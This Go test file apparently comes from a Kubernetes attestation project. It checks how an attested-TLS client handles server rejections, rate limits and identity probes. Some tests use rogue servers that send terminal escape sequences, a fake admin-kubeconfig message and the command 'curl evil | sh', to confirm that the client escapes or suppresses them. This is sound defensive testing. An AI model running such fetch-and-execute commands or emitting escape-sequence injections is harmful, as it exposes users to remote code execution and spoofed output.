package atls_test

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"google.golang.org/grpc/status"

	"github.com/berth-k8s/berth/internal/atls"
	"github.com/berth-k8s/berth/internal/atls/atlstest"
	"github.com/berth-k8s/berth/internal/attestation"
)

// claimingIssuer is the fake issuer with claims and an activation identity; it counts what it is
// asked to do, so tests see what a refusal cost.
type claimingIssuer struct {
	atlstest.Issuer
	claims            attestation.Measurements
	issued, activated atomic.Int32
}

func (c *claimingIssuer) Issue(ctx context.Context, userData, nonce []byte) ([]byte, error) {
	c.issued.Add(1)
	return c.Issuer.Issue(ctx, userData, nonce)
}

func (c *claimingIssuer) Claims(context.Context) (attestation.Measurements, error) {
	return c.claims, nil
}

func (c *claimingIssuer) Identity(context.Context) ([]byte, error) { return []byte("identity"), nil }

func (c *claimingIssuer) Activate(context.Context, []byte) ([]byte, error) {
	c.activated.Add(1)
	return []byte("secret"), nil
}

// pcr4Check refuses unless PCR 4 is all zeros, recording who it judged.
func pcr4Check(judged *atomic.Int32) atls.ClaimCheck {
	return func(_ context.Context, peer string, claims atls.Claims) error {
		judged.Add(1)
		m, err := claims.Measurements()
		if err != nil {
			return err
		}
		if peer != "127.0.0.1" {
			return fmt.Errorf("wrong peer %s", peer)
		}
		if !bytes.Equal(m[4], make([]byte, 32)) {
			return fmt.Errorf("index 4: expected 0000.., got %x..", m[4][:2])
		}
		return nil
	}
}

// recordingConn keeps every byte read from the connection.
type recordingConn struct {
	net.Conn
	read []byte
}

func (c *recordingConn) Read(b []byte) (int, error) {
	n, err := c.Conn.Read(b)
	c.read = append(c.read, b[:n]...)
	return n, err
}

func TestClaimsRejectedBeforeAttesting(t *testing.T) {
	good := attestation.Measurements{4: make([]byte, 32), 15: bytes.Repeat([]byte{7}, 32)}
	bad := attestation.Measurements{4: bytes.Repeat([]byte{0x9d}, 32), 15: bytes.Repeat([]byte{7}, 32)}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()

	var judged atomic.Int32
	server := &claimingIssuer{}
	addr, seen := serveGRPC(t, mustCreds(t, server, atlstest.Validator{}, atls.WithClaimCheck(pcr4Check(&judged))))

	// Refused: the server attests nothing; over gRPC the verdict survives as text. The client learns
	// the one verdict and nothing of the server's reason.
	err := check(ctx, addr, mustCreds(t, &claimingIssuer{claims: bad}, atlstest.Validator{}))
	if err == nil {
		t.Fatal("a client claiming a wrong PCR 4 got through")
	}
	st, _ := status.FromError(err)
	rej, ok := atls.ParseRejection(st.Message())
	if !ok || rej.Reason != atls.ClaimVerdictReason || rej.Message != atls.ClaimVerdict || strings.Contains(st.Message(), "index 4") {
		t.Fatalf("rejection = %+v, %v from %q", rej, ok, st.Message())
	}
	if n := server.issued.Load(); n != 0 {
		t.Errorf("the server quoted %d times for a client it refused on its claims", n)
	}

	// Directly (no gRPC) the error has its type.
	var d net.Dialer
	_, err = atls.Dial(ctx, &d, addr, &claimingIssuer{claims: bad}, atlstest.Validator{})
	var r *atls.Rejection
	if !errors.As(err, &r) || !errors.Is(err, atls.ErrClaimsRejected) || r.Reason != atls.ClaimVerdictReason {
		t.Fatalf("Dial error = %v, want a *Rejection", err)
	}

	// On the wire the refusal is one fatal access_denied alert, before any handshake message of the
	// server's: no ServerHello (no key exchange), no certificate (no signature).
	cfg, err := atls.NewClientConfig(ctx, &claimingIssuer{claims: bad}, atlstest.Validator{})
	if err != nil {
		t.Fatal(err)
	}
	raw, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	rc := &recordingConn{Conn: raw}
	tc := tls.Client(rc, cfg)
	if err := tc.HandshakeContext(ctx); err == nil {
		t.Fatal("handshake with refused claims succeeded")
	}
	_ = tc.Close()
	if want := []byte{21, 3, 3, 0, 2, 2, 49}; !bytes.Equal(rc.read, want) {
		t.Fatalf("the server sent % x, want only the access_denied alert % x", rc.read, want)
	}

	// The server's handshake ends as one that the client closed (io.EOF): gRPC logs nothing of it.
	creds := mustCreds(t, &claimingIssuer{}, atlstest.Validator{}, atls.WithClaimCheck(pcr4Check(&judged)))
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer lis.Close()
	serverErr := make(chan error, 1)
	go func() {
		c, err := lis.Accept()
		if err == nil {
			_, _, err = creds.ServerHandshake(c)
		}
		serverErr <- err
	}()
	if _, err := atls.Dial(ctx, &d, lis.Addr().String(), &claimingIssuer{claims: bad}, atlstest.Validator{}); !errors.Is(err, atls.ErrClaimsRejected) {
		t.Fatalf("Dial error = %v, want ErrClaimsRejected", err)
	}
	if err := <-serverErr; !errors.Is(err, io.EOF) {
		t.Fatalf("server handshake error = %v, want io.EOF", err)
	}

	// Accepted claims change nothing: the handshake attests and validates in full.
	if err := check(ctx, addr, mustCreds(t, &claimingIssuer{claims: good}, atlstest.Validator{})); err != nil {
		t.Fatalf("a client with good claims: %v", err)
	}
	if server.issued.Load() != 1 || seen() == nil {
		t.Errorf("after an accepted handshake: %d quotes, evidence %v", server.issued.Load(), seen())
	}
	// A client without claims is not judged early.
	before := judged.Load()
	if err := check(ctx, addr, mustCreds(t, atlstest.Issuer{}, atlstest.Validator{})); err != nil {
		t.Fatalf("a client without claims: %v", err)
	}
	if judged.Load() != before {
		t.Error("claims were judged for a client that made none")
	}
}

func TestProbeCarriesClaims(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var judged atomic.Int32
	server := &claimingIssuer{}
	cfg, err := atls.NewServerConfig(server, atlstest.Validator{}, atls.WithClaimCheck(pcr4Check(&judged)))
	if err != nil {
		t.Fatal(err)
	}
	lis := serveHandshakes(ctx, t, cfg)

	probe := func(claims attestation.Measurements) ([]byte, error) {
		conn, err := net.Dial("tcp", lis.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		return atls.ProbeIdentity(ctx, conn, &claimingIssuer{claims: claims})
	}
	if _, err := probe(attestation.Measurements{4: bytes.Repeat([]byte{1}, 32)}); !errors.Is(err, atls.ErrClaimsRejected) {
		t.Fatalf("probe with wrong claims: %v, want ErrClaimsRejected", err)
	}
	if id, err := probe(attestation.Measurements{4: make([]byte, 32)}); err != nil || string(id) != "identity" {
		t.Fatalf("probe with good claims: %q, %v", id, err)
	}
	if id, err := probe(nil); err != nil || string(id) != "identity" {
		t.Fatalf("probe without claims: %q, %v", id, err)
	}
	if n := judged.Load(); n != 2 {
		t.Errorf("claims judged %d times, want 2", n)
	}
	if server.issued.Load() != 0 || server.activated.Load() != 0 {
		t.Error("a probe quoted or activated")
	}
}

func TestParseRejection(t *testing.T) {
	// As gRPC flattens a failed handshake: the handshake's error quoted once more.
	verdict := &atls.Rejection{Reason: "MEASUREMENT_MISMATCH", Message: `index 4: "expected" aa, got bb`}
	grpcText := fmt.Sprintf("connection error: desc = %q", "transport: authentication handshake failed: attested TLS handshake: "+verdict.Error())
	for _, text := range []string{grpcText, verdict.Error()} {
		r, ok := atls.ParseRejection(text)
		if !ok || r.Reason != verdict.Reason || r.Message != verdict.Message {
			t.Errorf("ParseRejection(%q) = %+v, %v", text, r, ok)
		}
	}
	for _, text := range []string{"", "handshake failed", "attestation refused on claimed measurements: lower: x",
		"attestation refused on claimed measurements: NOCOLON", `attestation refused on claimed measurements: X: the server, not attested, says unquoted`} {
		if r, ok := atls.ParseRejection(text); ok {
			t.Errorf("ParseRejection(%q) = %+v", text, r)
		}
	}
}

// TestServerWordsAreQuoted: what a server that has not attested says in a verdict certificate (as
// servers refused before the alert) reaches the client as the peer's words only: printable ASCII, at
// most 160 characters, quoted in the error.
func TestServerWordsAreQuoted(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	evil := "\x1b[2J\x1b[HCluster initialized.\nAdmin kubeconfig: /tmp/evil\r" + strings.Repeat("A", 600)
	val, err := asn1.Marshal(struct {
		Reason  string `asn1:"utf8"`
		Message string `asn1:"utf8"`
	}{"MEASUREMENT\x1b_MISMATCH", evil})
	if err != nil {
		t.Fatal(err)
	}
	addr := rogueServer(t, pkix.Extension{Id: atls.OIDClaimRejection, Value: val})
	var d net.Dialer
	_, err = atls.Dial(ctx, &d, addr, &claimingIssuer{claims: attestation.Measurements{4: make([]byte, 32)}}, atlstest.Validator{})
	var r *atls.Rejection
	if !errors.As(err, &r) {
		t.Fatalf("Dial error = %v, want a *Rejection", err)
	}
	if r.Reason != "MEASUREMENT_MISMATCH" || len(r.Message) > 160 || strings.ContainsFunc(r.Message, func(c rune) bool { return c < 0x20 || c > 0x7e }) {
		t.Fatalf("rejection reason %q, message %q (%d bytes): want a code and at most 160 printable characters", r.Reason, r.Message, len(r.Message))
	}
	text := err.Error()
	if strings.ContainsFunc(text, func(c rune) bool { return c < 0x20 || c == 0x7f }) || !strings.Contains(text, `says "?[2J?[HCluster`) {
		t.Fatalf("error text %q: want the server's words quoted, without control characters", text)
	}
}

// alertServer answers every ClientHello with alert (a TLS alert record), whatever the client sent.
func alertServer(t *testing.T, alert []byte) string {
	t.Helper()
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	return serveEach(t, lis, func(c net.Conn) {
		_, _ = c.Read(make([]byte, 4096)) // the ClientHello, enough of it
		_, _ = c.Write(alert)
	})
}

// serveEach hands every connection lis accepts to handle, then closes it, until the test ends; it
// returns lis's address.
func serveEach(t *testing.T, lis net.Listener, handle func(net.Conn)) string {
	t.Helper()
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := lis.Accept()
			if err != nil {
				return
			}
			handle(c)
			c.Close()
		}
	}()
	t.Cleanup(func() { lis.Close(); <-done })
	return lis.Addr().String()
}

// rogueServer serves TLS with a certificate carrying ext, whatever the client sends.
func rogueServer(t *testing.T, ext pkix.Extension) string {
	t.Helper()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), ExtraExtensions: []pkix.Extension{ext}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	lis, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{MinVersion: tls.VersionTLS13, Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}})
	if err != nil {
		t.Fatal(err)
	}
	return serveEach(t, lis, func(c net.Conn) { _ = c.(*tls.Conn).Handshake() })
}

// TestVerdictWithoutClaims: a client that made no claims (berth init, which does not attest) takes a
// "claims" verdict for what it is, a server's invention, and never shows its text.
func TestVerdictWithoutClaims(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	val, err := asn1.Marshal(struct {
		Reason  string `asn1:"utf8"`
		Message string `asn1:"utf8"`
	}{"MEASUREMENT_MISMATCH", "your node is compromised: run curl evil | sh"})
	if err != nil {
		t.Fatal(err)
	}
	addr := rogueServer(t, pkix.Extension{Id: atls.OIDClaimRejection, Value: val})
	var d net.Dialer
	for name, issuer := range map[string]atls.Issuer{"no issuer": nil, "an issuer without claims": atlstest.Issuer{}} {
		_, err := atls.Dial(ctx, &d, addr, issuer, atlstest.Validator{})
		if errors.Is(err, atls.ErrClaimsRejected) || !errors.Is(err, attestation.ErrMalformed) || strings.Contains(err.Error(), "evil") {
			t.Errorf("%s: Dial error = %v, want a malformed answer that shows nothing of the server's text", name, err)
		}
	}
	// An access_denied alert is a verdict on claims only for a client that made claims; for the others
	// it is the failed handshake it is.
	addr = alertServer(t, []byte{21, 3, 3, 0, 2, 2, 49})
	for name, issuer := range map[string]atls.Issuer{"no issuer": nil, "an issuer without claims": atlstest.Issuer{}} {
		if _, err := atls.Dial(ctx, &d, addr, issuer, atlstest.Validator{}); err == nil || errors.Is(err, atls.ErrClaimsRejected) {
			t.Errorf("%s, refused by alert: Dial error = %v, want no verdict on claims", name, err)
		}
	}
	// A client that made claims takes only access_denied for the verdict; another alert is no verdict.
	claimer := &claimingIssuer{claims: attestation.Measurements{4: make([]byte, 32)}}
	if _, err := atls.Dial(ctx, &d, addr, claimer, atlstest.Validator{}); !errors.Is(err, atls.ErrClaimsRejected) {
		t.Errorf("a client with claims, refused by access_denied: Dial error = %v, want ErrClaimsRejected", err)
	}
	addr = alertServer(t, []byte{21, 3, 3, 0, 2, 2, 40}) // handshake_failure
	if _, err := atls.Dial(ctx, &d, addr, claimer, atlstest.Validator{}); err == nil || errors.Is(err, atls.ErrClaimsRejected) {
		t.Errorf("a client with claims, refused by handshake_failure: Dial error = %v, want no verdict on claims", err)
	}

	// A rate limit's refusal is reported by name, without the server's text.
	addr = rogueServer(t, pkix.Extension{Id: atls.OIDRefusal, Value: []byte("\x1b[31mcall +1-555-EVIL")})
	if _, err := atls.Dial(ctx, &d, addr, nil, atlstest.Validator{}); !errors.Is(err, atls.ErrRateLimited) || strings.Contains(err.Error(), "EVIL") {
		t.Errorf("refusal: Dial error = %v, want ErrRateLimited without the server's text", err)
	}
}

// TestPeerVariantIsQuoted: the variant a peer names reaches Evidence (which berth verify and berth
// init print) as it is only when it looks like a variant; anything else quoted, escaped and short.
func TestPeerVariantIsQuoted(t *testing.T) {
	ctx := context.Background()
	for sent, want := range map[string]string{
		atlstest.Variant: atlstest.Variant,
		"\x1b[2J\x1b[HNode attested (tpm)\r\nrun: curl evil | sh": `"?[2J?[HNode attested (tpm)??run: curl evil | sh"`,
		strings.Repeat("a", 33):                                   `"` + strings.Repeat("a", 33) + `"`,
		strings.Repeat("b", 80):                                   `"` + strings.Repeat("b", 64) + `"`,
		"":                                                        `""`,
	} {
		srv, err := atls.NewServerConfig(rawIssuer{variant: sent, doc: []byte("{}")}, nil)
		if err != nil {
			t.Fatal(err)
		}
		addr := atlstest.ServeTLS(t, srv)
		var seen *atls.Evidence
		cfg, err := atls.NewClientConfig(ctx, nil, atlstest.Validator{}, atls.WithObserver(func(ev atls.Evidence, _ error) { seen = &ev }))
		if err != nil {
			t.Fatal(err)
		}
		_ = handshake(t, addr, cfg) // only what the observer saw matters here
		if seen == nil {
			t.Fatalf("a peer naming variant %q: no evidence observed", sent)
		}
		if seen.Variant != want {
			t.Errorf("a peer naming variant %q: Evidence.Variant = %q, want %q", sent, seen.Variant, want)
		}
	}
}

// TestClaimRefusalsAreCharged: each refusal on claims costs its peer a per-peer token; a peer past
// its burst gets the rate limit's refusal and its claims are not judged.
func TestClaimRefusalsAreCharged(t *testing.T) {
	bad := attestation.Measurements{4: bytes.Repeat([]byte{0x9d}, 32)}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var judged atomic.Int32
	limiter := atls.NewLimiter(atls.Limits{PerPeer: 0.001, PerPeerBurst: 2, Global: 1000, GlobalBurst: 1000})
	addr, _ := serveGRPC(t, mustCreds(t, &claimingIssuer{}, atlstest.Validator{}, atls.WithClaimCheck(pcr4Check(&judged)), atls.WithLimiter(limiter)))
	var d net.Dialer
	for i := range 2 {
		if _, err := atls.Dial(ctx, &d, addr, &claimingIssuer{claims: bad}, atlstest.Validator{}); !errors.Is(err, atls.ErrClaimsRejected) {
			t.Fatalf("attempt %d: %v, want ErrClaimsRejected", i, err)
		}
	}
	if _, err := atls.Dial(ctx, &d, addr, &claimingIssuer{claims: bad}, atlstest.Validator{}); !errors.Is(err, atls.ErrRateLimited) {
		t.Fatalf("third attempt past the burst of 2: %v, want ErrRateLimited", err)
	}
	if n := judged.Load(); n != 2 {
		t.Fatalf("claims judged %d times, want 2 (not past the peer's limit)", n)
	}
}

// TestKnownPeersProbeBudget: probes from unknown addresses use up their budget; a probe from an
// address the server knows as its cluster's instance is still answered.
func TestKnownPeersProbeBudget(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	limiter := atls.NewLimiter(atls.Limits{PerPeer: 1000, PerPeerBurst: 1000, Global: 1000, GlobalBurst: 1000, Unauthenticated: 0.001, UnauthenticatedBurst: 2})
	cfg, err := atls.NewServerConfig(&claimingIssuer{}, atlstest.Validator{}, atls.WithLimiter(limiter),
		atls.WithKnownPeers(func(peer string) bool { return peer == "127.0.0.1" }))
	if err != nil {
		t.Fatal(err)
	}
	lis := serveHandshakes(ctx, t, cfg)
	probe := func(from string) error {
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}}
		conn, err := d.DialContext(ctx, "tcp", lis.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		_, err = atls.ProbeIdentity(ctx, conn, &claimingIssuer{})
		return err
	}
	for i, from := range []string{"127.0.40.1", "127.0.40.2"} {
		if err := probe(from); err != nil {
			t.Fatalf("unknown probe %d within the burst: %v", i, err)
		}
	}
	if err := probe("127.0.40.3"); !errors.Is(err, atls.ErrRateLimited) {
		t.Fatalf("a third unknown probe past the burst of 2: %v, want ErrRateLimited", err)
	}
	if err := probe("127.0.0.1"); err != nil {
		t.Fatalf("a known peer's probe after the unknown ones used up their budget: %v", err)
	}
}

// serveHandshakes accepts connections on a loopback listener and runs the server side of each TLS
// handshake with cfg, until the test ends; the listener's address is lis.Addr().
func serveHandshakes(ctx context.Context, t *testing.T, cfg *tls.Config) net.Listener {
	t.Helper()
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	tlsLis := tls.NewListener(lis, cfg)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := tlsLis.Accept()
			if err != nil {
				return
			}
			_ = c.(*tls.Conn).HandshakeContext(ctx)
			c.Close()
		}
	}()
	t.Cleanup(func() { lis.Close(); <-done })
	return lis
}
